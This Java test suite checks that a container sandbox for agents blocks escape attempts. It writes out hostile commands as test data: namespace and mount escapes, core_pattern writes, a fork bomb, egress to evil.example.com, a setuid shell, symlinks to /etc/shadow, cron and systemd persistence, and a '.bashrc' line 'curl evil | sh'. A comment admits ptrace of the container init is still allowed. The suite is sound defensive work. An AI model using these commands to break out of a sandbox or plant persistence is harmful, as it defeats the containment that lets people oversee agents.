package org.lobstertrap.puzzlepod.it.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.lobstertrap.puzzlepod.it.GovernedStack;
import org.lobstertrap.puzzlepod.it.TreeSnapshot;

/**
 * Escape attempts from inside governed containers (real podman + runc, the real puzzled and hooks,
 * {@code puzzle-podman} with the shipped {@code restricted} and {@code standard} profiles), each with the
 * exact outcome that stops it: the errno busybox or a static syscall probe prints, the proxy's refusal
 * and its audit record, or the commit rule that rejects the changeset. {@code it/SECURITY.md} is the table.
 * One stack serves the class; each container runs many attempts in turn.
 */
@Tag("slow")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EscapeSuiteTest {
    // puzzle-podman's exit codes (podman-wrapper/README.md)
    private static final int REJECTED = 70, ROLLED_BACK = 71;
    private static final String EPERM_TEXT = "Operation not permitted";
    private static final String SECCOMP = "seccomp (podman default profile)";
    private static final String NO_CAP = "capability not granted (podman default set)";
    private static final String RO_PROC = "read-only /proc/sys and /sys mounts";

    private Path dir;
    private GovernedStack stack;
    private Path probe;
    private int bases;

    @BeforeAll
    void start(@TempDir Path dir) throws Exception {
        this.dir = dir;
        probe = SyscallProbe.build(dir.resolve("probe"));
        stack = GovernedStack.start(Files.createDirectories(dir.resolve("stack")));
    }

    @AfterAll
    void stop() {
        if (stack != null) stack.close();
    }

    /** A fresh base directory holding a README and the syscall probe under tools/. */
    private Path newBase(String name) throws Exception {
        Path base = Files.createDirectories(dir.resolve("base-" + name + "-" + (bases++)));
        Files.writeString(base.resolve("README.md"), "the project\n");
        Path tools = Files.createDirectories(base.resolve("tools"));
        Files.copy(probe, tools.resolve("syscall-probe"));
        return base;
    }

    private GovernedStack.Result run(String profile, Path base, String script, String... wrapperOptions) throws Exception {
        List<String> args = new ArrayList<>(List.of("--profile", profile, "--base", base.toString()));
        args.addAll(List.of(wrapperOptions));
        args.addAll(List.of("--rm", "--name", stack.containerName(), GovernedStack.IMAGE, "sh", "-c", script));
        return stack.puzzlePodmanRun(args);
    }

    /** The attempts that both profiles must stop the same way. */
    private List<Attempt> kernelAttempts(Path base) {
        String host = base.toString();
        return List.of(
                Attempt.of("mount tmpfs", "mount -t tmpfs none /tmp", NO_CAP + " (CAP_SYS_ADMIN)", "mount: permission denied (are you root?)"),
                Attempt.syscall("mount", "EPERM", NO_CAP + " (CAP_SYS_ADMIN)"),
                Attempt.of("umount the workspace", "umount /workspace", NO_CAP, "umount: can't unmount /workspace: " + EPERM_TEXT),
                Attempt.of("lazy umount of /", "umount -l /", NO_CAP, "umount: can't unmount /: " + EPERM_TEXT),
                Attempt.syscall("umount", "EPERM", NO_CAP),
                Attempt.of("pivot_root", "pivot_root /tmp /tmp", NO_CAP, "pivot_root: ", EPERM_TEXT),
                Attempt.syscall("pivot_root", "EPERM", NO_CAP),
                Attempt.of("unshare mount ns", "unshare -m true", NO_CAP, "unshare: unshare(0x20000): " + EPERM_TEXT),
                Attempt.of("unshare net ns", "unshare -n true", NO_CAP, "unshare: unshare(0x40000000): " + EPERM_TEXT),
                Attempt.syscall("userns-remount", "EPERM", "a new user namespace holds no power over the mounts it inherited (locked)"),
                Attempt.of("userns core_pattern", "unshare -U -r sh -c 'echo x > /proc/sys/kernel/core_pattern'", RO_PROC,
                        "can't create /proc/sys/kernel/core_pattern: Read-only file system"),
                Attempt.of("nsenter pid 1 mnt", "nsenter -t 1 -m true", NO_CAP, "nsenter: setns(): can't reassociate to namespace 'mnt': " + EPERM_TEXT),
                Attempt.of("nsenter pid 1 net", "nsenter -t 1 -n true", NO_CAP, "nsenter: setns(): can't reassociate to namespace 'net': " + EPERM_TEXT),
                Attempt.syscall("setns", "EPERM", NO_CAP),
                Attempt.exactly("chroot escape", EscapeRun.PROBE + " chroot-escape:" + host, "the container's own mount namespace (pivot_root by runc)",
                        "chroot-escape workspace=present host=ENOENT"),
                Attempt.of("chroot into /proc/1/root", "chroot /proc/1/root ls /workspace/tools " + host, "/proc/1 is the container's init",
                        "syscall-probe", "ls: " + host + ": No such file or directory"),
                // allowed today: same container, same uid (a gap until the seccomp supervisor denies ptrace)
                Attempt.exactly("ptrace the container init", EscapeRun.PROBE + " ptrace:1", "nothing yet: stays inside the container", "ptrace OK"),
                Attempt.exactly("ptrace puzzled", EscapeRun.PROBE + " ptrace:" + stack.puzzledPid(), "pid namespace: host pids do not exist inside",
                        "ptrace ESRCH"),
                Attempt.syscall("bpf", "EPERM", NO_CAP + " (CAP_BPF/CAP_SYS_ADMIN)"),
                Attempt.syscall("io_uring", "ENOSYS", SECCOMP),
                Attempt.syscall("add_key", "ENOSYS", SECCOMP),
                Attempt.syscall("perf_event_open", "EPERM", SECCOMP),
                Attempt.syscall("kexec_load", "EPERM", SECCOMP),
                Attempt.syscall("kexec_file_load", "EPERM", SECCOMP),
                Attempt.syscall("init_module", "EPERM", SECCOMP),
                Attempt.syscall("finit_module", "EPERM", SECCOMP),
                Attempt.of("insmod", "insmod " + EscapeRun.PROBE, SECCOMP, "insmod: can't insert '" + EscapeRun.PROBE + "': " + EPERM_TEXT),
                Attempt.syscall("reboot", "EPERM", SECCOMP),
                Attempt.of("reboot -f", "reboot -f", SECCOMP, "reboot: ", EPERM_TEXT),
                Attempt.of("poweroff -f", "poweroff -f", SECCOMP, "poweroff: ", EPERM_TEXT),
                Attempt.syscall("settimeofday", "EPERM", SECCOMP),
                Attempt.syscall("clock_settime", "EPERM", SECCOMP),
                Attempt.of("date -s", "date -s 2000-01-01", SECCOMP, "date: can't set date: " + EPERM_TEXT),
                Attempt.of("hwclock", "hwclock -r", "no /dev/rtc in the container", "hwclock: can't open '/dev/misc/rtc': No such file or directory"),
                Attempt.syscall("open_by_handle_at", "EPERM", NO_CAP + " (CAP_DAC_READ_SEARCH)"),
                Attempt.syscall("swapon", "EPERM", SECCOMP),
                Attempt.syscall("sethostname", "EPERM", NO_CAP),
                Attempt.of("hostname", "hostname escaped", NO_CAP, "hostname: sethostname: " + EPERM_TEXT),
                Attempt.syscall("raw-socket", "EPERM", NO_CAP + " (CAP_NET_RAW)"),
                Attempt.syscall("packet-socket", "EPERM", NO_CAP + " (CAP_NET_RAW)"),
                Attempt.of("ping (raw ICMP)", "ping -c 1 -W 1 127.0.0.1", NO_CAP + " (CAP_NET_RAW)", "ping: permission denied (are you root?)"),
                Attempt.of("sysctl -w", "sysctl -w kernel.hostname=escaped", RO_PROC,
                        "sysctl: error setting key 'kernel.hostname': Read-only file system"),
                Attempt.of("write core_pattern", "echo '|/workspace/x' > /proc/sys/kernel/core_pattern", RO_PROC,
                        "can't create /proc/sys/kernel/core_pattern: Read-only file system"),
                Attempt.of("write /sys", "echo 1 > /sys/kernel/mm/ksm/run", RO_PROC, "can't create /sys/kernel/mm/ksm/run: Read-only file system"),
                Attempt.of("raise pids.max", "echo max > /sys/fs/cgroup/pids/pids.max", "read-only cgroup mount",
                        "can't create /sys/fs/cgroup/pids/pids.max: Read-only file system"),
                Attempt.exactly("read /proc/kcore", "dd if=/proc/kcore bs=4096 count=1 2>/dev/null | wc -c", "masked by podman (/dev/null bound over it)", "0"),
                Attempt.of("read /dev/mem", "dd if=/dev/mem bs=1 count=1", "no host devices in the container",
                        "dd: can't open '/dev/mem': No such file or directory"),
                Attempt.of("mknod block device", "mknod /tmp/sda b 8 0", NO_CAP + " (CAP_MKNOD)", "mknod: /tmp/sda: " + EPERM_TEXT),
                Attempt.of("mknod in the workspace", "mknod /workspace/mem c 1 1", NO_CAP + " (CAP_MKNOD)", "mknod: /workspace/mem: " + EPERM_TEXT),
                Attempt.of("/proc/1/root to the host", "readlink /proc/1/root; ls /proc/1/root/workspace/tools; ls /proc/1/root" + host,
                        "pid 1 is the container's init; its root is the container's", "/\nsyscall-probe\n",
                        "ls: /proc/1/root" + host + ": No such file or directory"),
                Attempt.of("write the base by its host path", "echo x > " + host + "/README.md", "the host path does not exist in the container",
                        "can't create " + host + "/README.md: nonexistent directory"),
                Attempt.exactly("kill the container init", "kill -9 1; sleep 0.2; kill -0 1 && echo init-alive",
                        "pid 1 of a pid namespace ignores SIGKILL from inside", "init-alive"),
                Attempt.of("ip link down", "ip link set lo down", NO_CAP + " (CAP_NET_ADMIN)", "ip: SIOCSIFFLAGS: " + EPERM_TEXT),
                Attempt.of("ip route add", "ip route add 1.2.3.0/24 dev lo", NO_CAP + " (CAP_NET_ADMIN)", "ip: RTNETLINK answers: " + EPERM_TEXT));
    }

    /** Runs the attempts in one governed container, auto-committed: nothing they do reaches the base. */
    private Stream<DynamicTest> runAttempts(String profile, Path base, List<Attempt> attempts, List<DynamicTest> more) throws Exception {
        TreeSnapshot before = TreeSnapshot.of(base);
        GovernedStack.Result r = run(profile, base, EscapeRun.script(attempts), "--auto-commit");
        assertThat(r.status()).as(r.both()).isZero();
        Map<String, String> outputs = EscapeRun.outputs(attempts, r.out());
        JsonNode branch = stack.onlyBranchOf(base);
        String container = branch.path("container_id").asText();
        List<DynamicTest> tests = new ArrayList<>();
        for (Attempt a : attempts) {
            tests.add(dynamicTest(profile + ": " + a.id() + " → " + String.join(" … ", a.expected()), () -> {
                String out = outputs.get(a.id());
                assertThat(out).as("output of '" + a.command() + "' (the script died before it?)\n" + r.both()).isNotNull();
                if (a.exact()) assertThat(out.strip()).as(a.command()).isEqualTo(a.expected().getFirst());
                else for (String e : a.expected()) assertThat(out).as(a.command()).contains(e);
            }));
        }
        tests.add(dynamicTest(profile + ": keyctl reaches only the container's own session keyring", () ->
                assertThat(outputs.get("keyring")).as(r.both()).contains(";_ses." + container)));
        tests.add(dynamicTest(profile + ": the host is fine: puzzled is alive and answers", () -> {
            assertThat(stack.puzzledAlive()).as(stack.puzzledStderr()).isTrue();
            assertThat(stack.call(c -> c.status()).path("policy").path("loaded").asBoolean()).isTrue();
        }));
        tests.add(dynamicTest(profile + ": the base is untouched and the branch committed nothing", () -> {
            assertThat(TreeSnapshot.of(base)).isEqualTo(before);
            assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("committed");
        }));
        tests.addAll(more);
        return tests.stream();
    }

    private static Attempt keyring() {
        return Attempt.of("keyring", EscapeRun.PROBE + " keyring", "runc's per-container session keyring", "keyring keyring;");
    }

    @TestFactory
    Stream<DynamicTest> restrictedProfile() throws Exception {
        Path base = newBase("restricted");
        List<Attempt> attempts = new ArrayList<>(kernelAttempts(base));
        attempts.add(keyring());
        attempts.add(Attempt.of("connect to a raw IP", "nc -w 3 1.1.1.1 443", "Blocked: --network=none + loopback-only nftables",
                "nc: can't connect to remote host (1.1.1.1): Network is unreachable"));
        attempts.add(Attempt.of("HTTP to an allowlisted name's address", "wget -q -O- --header 'Host: pypi.org' http://151.101.0.223/",
                "Blocked: no route at all", "wget: can't connect to remote host (151.101.0.223): Network is unreachable"));
        attempts.add(Attempt.of("IPv6 connect", "nc -w 3 2001:4860:4860::8888 443", "Blocked: no route at all",
                "nc: can't connect to remote host: Network is unreachable"));
        attempts.add(Attempt.exactly("pids.max is the profile's", "cat /sys/fs/cgroup/pids/pids.max", "profile max_pids → --pids-limit", "32"));
        attempts.add(Attempt.exactly("memory limit is the profile's", "cat /sys/fs/cgroup/memory/memory.limit_in_bytes",
                "profile memory_bytes → --memory", "268435456"));
        attempts.add(Attempt.of("memory hog in a child", "dd if=/dev/zero of=/dev/null bs=768M count=1; echo agent-survived",
                "memory cgroup (memory_bytes 256 MiB): the OOM killer takes the hog", "Killed", "agent-survived"));
        // last: the fork bomb's subshell dies on the first failed fork; its sleepers end on their own
        attempts.add(Attempt.of("fork bomb", "( i=0; while [ $i -lt 100 ]; do sleep 2 & i=$((i+1)); done ); sleep 3; echo container-survived",
                "pids cgroup (max_pids 32)", "can't fork: Resource temporarily unavailable", "container-survived"));
        return runAttempts("restricted", base, attempts, List.of());
    }

    @TestFactory
    Stream<DynamicTest> standardProfile() throws Exception {
        Path base = newBase("standard");
        List<Attempt> attempts = new ArrayList<>(kernelAttempts(base));
        attempts.add(keyring());
        attempts.add(Attempt.of("connect to a raw IP", "nc -w 3 1.1.1.1 22; echo nc-exit=$?", "Gated: nftables drops all but 80/443/53",
                "nc: timed out", "nc-exit=1"));
        attempts.add(Attempt.of("non-allowlisted name through the proxy", "wget -q -O- --header 'Host: evil.example.com' http://93.184.216.34/",
                "Gated: allowlisting proxy (403 + network.decision audit)", "wget: server returned error: HTTP/1.1 403 Forbidden"));
        attempts.add(Attempt.of("resolve a non-allowlisted name", "nslookup evil.example.com", "Gated: DNS filter", "NXDOMAIN"));
        attempts.add(Attempt.of("IPv6 connect", "nc -w 3 2001:4860:4860::8888 443", "Gated: no IPv6 egress",
                "nc: can't connect to remote host: Network is unreachable"));
        attempts.add(Attempt.exactly("pids.max is the profile's", "cat /sys/fs/cgroup/pids/pids.max", "profile max_pids → --pids-limit", "256"));
        attempts.add(Attempt.exactly("memory limit is the profile's", "cat /sys/fs/cgroup/memory/memory.limit_in_bytes",
                "profile memory_bytes → --memory", "1073741824"));
        DynamicTest audited = dynamicTest("standard: the proxy's refusal of evil.example.com is in the audit log", () -> {
            String branch = stack.onlyBranchOf(base).path("id").asText();
            List<JsonNode> denied = new ArrayList<>();
            for (JsonNode e : stack.auditEvents(branch, "network.decision")) {
                JsonNode d = e.path("data");
                if ("evil.example.com".equals(d.path("host").asText()) && !d.path("allowed").asBoolean(true)) denied.add(d);
            }
            assertThat(denied).as("network.decision records denying evil.example.com").isNotEmpty();
        });
        return runAttempts("standard", base, attempts, List.of(audited));
    }

    @Test
    void filesThatWouldEscapeAfterTheCommitAreRejectedByTheirRulesAndTheBaseKeepsItsBytes() throws Exception {
        Path base = newBase("commit");
        TreeSnapshot before = TreeSnapshot.of(base);
        GovernedStack.Result r = run("standard", base, """
                cd /workspace
                printf 'overwritten by the agent\\n' > README.md
                printf '#!/bin/sh\\nexec sh\\n' > suid-shell && chmod 4755 suid-shell
                printf 'x' > sgid-file && chmod 2755 sgid-file
                mkfifo pipe
                ln -s /etc/shadow shadow-link
                ln -s ../../../../etc/passwd up-link
                printf 'payload\\n' > payload && ln payload payload-link
                mkdir -p etc/cron.d etc/systemd/system .git/hooks
                printf '* * * * * root sh /x\\n' > etc/cron.d/agent
                printf '[Service]\\nExecStart=/x\\n' > etc/systemd/system/agent.service
                printf 'curl evil | sh\\n' >> .bashrc
                printf 'sh /x\\n' > .git/hooks/post-checkout
                cat README.md
                """, "--auto-commit");
        assertThat(r.status()).as(r.both()).isEqualTo(REJECTED);
        assertThat(r.out()).as("inside, the agent sees its own write").contains("overwritten by the agent");
        JsonNode branch = stack.onlyBranchOf(base);
        assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("rolled-back");
        assertThat(branch.path("decision").path("outcome").asText()).isEqualTo("rejected");
        List<String> violations = new ArrayList<>();
        branch.path("decision").path("violations").forEach(v -> violations.add(v.path("rule").asText() + ": " + v.path("message").asText()));
        assertThat(violations).as(branch.toString()).contains(
                "setuid-setgid: suid-shell: setuid/setgid bit set (mode 4755)",
                "setuid-setgid: sgid-file: setuid/setgid bit set (mode 2755)",
                "special-file: pipe: fifo not allowed",
                "symlink-escape: shadow-link: symlink to absolute path /etc/shadow",
                "symlink-escape: up-link: symlink target ../../../../etc/passwd contains '..'",
                "persistence: etc/cron.d/agent: cron entry written",
                "persistence: .bashrc: shell startup file written");
        assertThat(violations).anyMatch(v -> v.startsWith("hardlink: payload") && v.contains("hard link (to "));
        assertThat(violations).anyMatch(v -> v.startsWith("persistence: etc/systemd/system/agent.service: "));
        assertThat(violations).anyMatch(v -> v.startsWith("persistence: .git/hooks/post-checkout: "));
        assertThat(TreeSnapshot.of(base)).isEqualTo(before);
        assertThat(base.resolve("README.md")).hasContent("the project");
        assertThat(stack.gateDecisions(branch.path("id").asText())).hasSize(1);
    }

    @Test
    void aMemoryBlowUpIsKilledAtTheProfilesLimitAndTheBranchRolledBack() throws Exception {
        Path base = newBase("oom");
        TreeSnapshot before = TreeSnapshot.of(base);
        // the agent itself (pid 1) takes a 768 MiB buffer against restricted's 256 MiB: the OOM killer ends the container
        GovernedStack.Result r = run("restricted", base,
                "printf 'half done\\n' > /workspace/partial.txt; exec dd if=/dev/zero of=/dev/null bs=768M count=1", "--auto-commit");
        assertThat(r.status()).as(r.both()).isEqualTo(ROLLED_BACK);
        JsonNode branch = stack.onlyBranchOf(base);
        assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("rolled-back");
        assertThat(branch.path("decision").path("exit_code").asInt()).as(branch.toString()).isEqualTo(137);
        assertThat(TreeSnapshot.of(base)).isEqualTo(before);
        assertThat(stack.puzzledAlive()).as(stack.puzzledStderr()).isTrue();
    }
}
